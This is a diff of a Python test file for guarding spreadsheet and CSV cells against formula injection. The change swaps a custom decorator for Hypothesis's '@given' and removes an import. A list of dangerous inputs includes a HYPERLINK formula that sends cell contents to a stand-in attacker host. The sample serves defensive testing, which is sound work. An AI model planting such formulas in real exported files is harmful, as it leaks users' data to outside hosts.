@@ -5,6 +5,7 @@ import io
 from xml.etree import ElementTree
 
 import pytest
+from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
@@ -17,7 +18,6 @@ from projects.rendering import blank, excel
 from projects.tables import Indicator, typed
 from tests.office import opened
 from tests.people import make_table
-from tests.projects.strategies import law
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
@@ -62,7 +62,7 @@ def test_what_cannot_run_stays_as_it_was_typed(text):
     assert guarded(text) == text
 
 
-@law(texts)
+@given(texts)
 def test_no_guarded_text_runs_and_each_comes_back(text):
     assert not runs(guarded(text)) or not runs(text)
     assert not runs(guarded(text))
@@ -87,13 +87,13 @@ def as_saved_by_a_spreadsheet(rows: list[list[str]]) -> io.BytesIO:
 words = st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), min_size=1, max_size=8)
 
 
-@law(st.builds("".join, st.tuples(starts.map(str.strip), words)))
+@given(st.builds("".join, st.tuples(starts.map(str.strip), words)))
 def test_a_guarded_csv_that_comes_back_through_a_spreadsheet_is_read_as_it_was_typed(text):
     found = read_rows(as_saved_by_a_spreadsheet([["姓名", "部门"], [guarded(text), "x"]]), Limits(), HEADS)
     assert [row["name"] for row in found.rows] == [typed(text)]
 
 
-@law(st.builds("".join, st.tuples(starts.map(str.strip), words)))
+@given(st.builds("".join, st.tuples(starts.map(str.strip), words)))
 def test_our_own_workbook_needs_no_guard_and_comes_back_too(text):
     file = io.BytesIO(write_rows(HEADS, [{"name": text, "other": text}], "名单"))
     assert [row["name"] for row in read_rows(file, Limits(), HEADS).rows] == [typed(text)]
